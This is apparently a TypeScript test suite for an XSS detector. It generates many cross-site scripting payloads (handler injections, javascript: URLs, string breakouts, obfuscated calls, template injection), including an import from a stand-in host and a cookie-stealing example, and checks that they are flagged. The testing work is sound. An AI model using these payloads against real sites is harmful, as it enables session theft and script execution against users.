import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { classify } from '../../values/character-classes.js';
import type { Detection } from '../check.js';
import { xss } from './xss.js';

const CONTEXT = { source: 'qs_values', path: 'q', steps: [], executables: new Set<string>() } as const;

function detect(text: string): Detection | undefined {
  return xss.applies(classify(text)) ? xss.detect(text, CONTEXT) : undefined;
}

function fixture(name: string): string[] {
  return readFileSync(join(__dirname, 'fixtures', name), 'utf8')
    .split('\n')
    .filter((line) => line !== '' && !line.startsWith('//'))
    .map((line) => JSON.parse(`"${line}"`) as string);
}

describe('xss: fixtures', () => {
  it.each(fixture('attacks.txt'))('is certain about %j', (text) => {
    const detection = detect(text);
    expect(detection?.certainty).toBe('certain');
    expect(detection?.end).toBeLessThanOrEqual(text.length);
    expect(detection?.start).toBeLessThan(detection?.end ?? 0);
  });

  it.each(fixture('benign.txt'))('is not certain about %j', (text) => {
    expect(detect(text)?.certainty).not.toBe('certain');
  });
});

/** Ways to run something, each a script that compiles. */
const SCRIPTS = [
  'alert(1)',
  'alert`1`',
  '[1].find(alert)',
  "top['al'+'ert'](1)",
  'top[/al/.source+/ert/.source](1)',
  '\\u0061lert(1)',
  "eval(atob('YWxlcnQoMSk='))",
  "Function('alert(1)')()",
  "[]['constructor']['constructor']('alert(1)')()",
  "setTimeout('alert(1)')",
  'onerror=alert;throw 1',
  'location=name',
  "import('//evil.example')",
  "''+{toString:alert}",
  'with(document)write(1)',
  'class A{static{alert(1)}}',
  '[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]((!![]+[])[+[]])()',
  'qwerty.asdf(zxcv)',
];
const HANDLERS = ['onerror', 'ONLOAD', 'oncut', 'onnotyetinvented', 'onwebkitanimationend'];
const ELEMENTS = ['img src', 'svg', 'x', 'my-element tabindex=1', 'svg><animate', 'input type="hidden"', 'style'];

describe('xss: any element, any handler, any separator, any quotes', () => {
  const quoted = (script: string): string[] => [
    `"${script.replaceAll('"', '&quot;')}"`,
    `'${script.replaceAll("'", '&#39;')}'`,
    ...(/^[^\s>"'`]+$/.test(script) ? [script] : []),
  ];
  it.each(SCRIPTS)('runs %s', (script) => {
    for (const value of quoted(script)) {
      for (const handler of HANDLERS) {
        for (const element of ELEMENTS) {
          for (const separator of [' ', '\t', '\n', '\f', '\r', ' / ']) {
            const text = `<${element}${separator}${handler}${separator.trim() ? '' : separator}=${value}>`;
            expect(detect(text)?.certainty, text).toBe('certain');
          }
        }
      }
    }
  });

  it.each(['<img alt="onerror=alert(1)">', '<imgonerror=alert(1)>', '< img onerror=alert(1)>'])(
    'knows that the handler in %s is none',
    (text) => {
      expect(detect(text)?.context).not.toBe('between tags');
    },
  );
});

describe('xss: script strings', () => {
  const ends = ['//', '<!--', '/*', '</script>'];
  const starts = ["'", '"', '`'].flatMap((quote) => [
    `${quote};`,
    `x${quote};`,
    `${quote});`,
    `${quote}}]);`,
    `\\${quote};`,
    `${quote}\n`,
    `${quote}-1;`,
  ]);
  it.each(SCRIPTS)('leaves them for %s', (script) => {
    for (const start of starts) {
      for (const end of ends) {
        const text = `${start}${script}${end}`;
        // Behind `\` an odd quote would have to be escaped by the page as well.
        if (start.startsWith('\\') && script.includes(start.charAt(1))) continue;
        expect(detect(text)?.certainty, text).toBe('certain');
      }
    }
  });

  it.each([
    '+',
    '-',
    '*',
    '/',
    '%',
    '|',
    '&',
    '^',
    '||',
    '&&',
    '??',
    '**',
    '==',
    '<',
    '>',
    ',',
    ' in ',
    ' instanceof ',
  ])('sees a call between two strings and %j', (operator) => {
    for (const quote of ["'", '"', '`']) {
      const text = `${quote}${operator}foo(1)${operator}${quote}`;
      expect(detect(text)?.certainty, text).toBe('certain');
    }
  });

  it.each([
    "it's (really) fine",
    "'tis foo(bar) //",
    "print('hello'); foo('bar')",
    "' or sleep(5) //",
    '5" x 7" (127mm)',
    'say "yes" (or no) //',
    "'; the end (of it) //",
  ])('does not take %s for a script', (text) => {
    expect(detect(text)).toBeUndefined();
  });
});

describe('xss: URLs', () => {
  const urls = [
    'javascript:alert(1)',
    'JAVA\tSCRIPT:alert(1)',
    ' \u0001javascript:alert(1)',
    'javascript://%0aalert(1)',
  ];
  it.each(urls)('runs %j as a whole value, and in any attribute', (url) => {
    expect(detect(url)?.certainty).toBe('certain');
    for (const attribute of ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'to', 'not-known-yet']) {
      expect(detect(`<x ${attribute}="${url}">`)?.certainty).toBe('certain');
    }
  });

  it.each([
    'javascript:void(0)',
    'javascript:;',
    'JavaScript: The Good Parts',
    'https://x.example/javascript:alert(1)',
  ])('runs nothing for %s', (url) => {
    expect(detect(url)).toBeUndefined();
    expect(detect(`<a href="${url}">x</a>`)).toBeUndefined();
  });

  it('reads character references in attributes as browsers do', () => {
    for (const letter of ['&#106;', '&#106', '&#x6A;', '&#x00006a;', 'j&Tab;', 'j&NewLine;']) {
      expect(detect(`<a href="${letter}avascript&colon;alert&lpar;1&rpar;">`)?.certainty).toBe('certain');
    }
  });
});

describe('xss: explanations', () => {
  it('name the element, the attribute, what runs and the context', () => {
    const detection = detect('"><img src=x onerror="steal(document.cookie)">');
    expect(detection?.explanation).toBe(
      'The attribute onerror of <img> runs steal(document.cookie) when its event fires.',
    );
    expect(detection?.context).toBe('between tags');
  });

  it.each([
    ['" autofocus onfocus="f(1)', 'inside a double-quoted attribute value'],
    ["' autofocus onfocus='f(1)", 'inside a single-quoted attribute value'],
    ['x autofocus onfocus=f(1)', 'inside an unquoted attribute value, or among attributes'],
    ['<!-- <img onerror=f(1)> -->', 'inside a comment'],
    ['javascript:f(1)', 'as the whole of a URL attribute, or of a redirect'],
    ["';f(1)//", 'inside a single-quoted JavaScript string'],
    ['";f(1)//', 'inside a double-quoted JavaScript string'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
    ['${alert(1)}', 'inside a JavaScript template literal'],
    ['*/f(1)/*', 'inside a comment of a script'],
    ['1-alert(1)', 'inside a script, where a number or a name is expected'],
    ["{{constructor.constructor('f(1)')()}}", 'inside a page that AngularJS or Vue compiles as a template'],
    ['red;x:expression(f(1))', 'inside a style attribute or style sheet'],
  ])('%s acts %s', (text, context) => {
    expect(detect(text)?.context).toBe(context);
  });
});
